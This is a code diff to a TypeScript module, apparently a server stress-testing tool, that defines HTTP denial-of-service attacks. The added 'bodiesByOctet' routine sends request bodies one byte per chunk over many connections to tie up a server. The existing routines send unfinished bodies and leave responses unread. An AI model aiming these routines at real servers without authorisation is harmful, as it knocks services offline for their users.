@@ -41,12 +41,21 @@ const LEAVING_BESIDE = 500;
 /** Enough of them fill the memory of who keeps what is unread. */
 const NOT_READING = 300;
 
+/** Of bodies whose octets are a chunk each. */
+const FEW = 60;
+const MAX_OCTETS = 2 ** 16;
+
 type Attack = (target: Target) => Promise<void>;
 
 export const ATTACKS = {
   unfinishedBodies: (target) =>
     everMore(target, target.connections, async (socket) => {
       socket.write(`${headOf(target)}${'a'.repeat(target.bodyBytes - 1)}`);
+    }),
+  bodiesByOctet: (target) =>
+    everMore(target, FEW, async (socket) => {
+      const head = headOf(target).replace(/content-length: \d+/, 'transfer-encoding: chunked');
+      socket.write(head + '1\r\na\r\n'.repeat(Math.min(target.bodyBytes, MAX_OCTETS) - 1));
     }),
   unreadAnswers: (target) =>
     everMore(target, NOT_READING, async (socket) => {
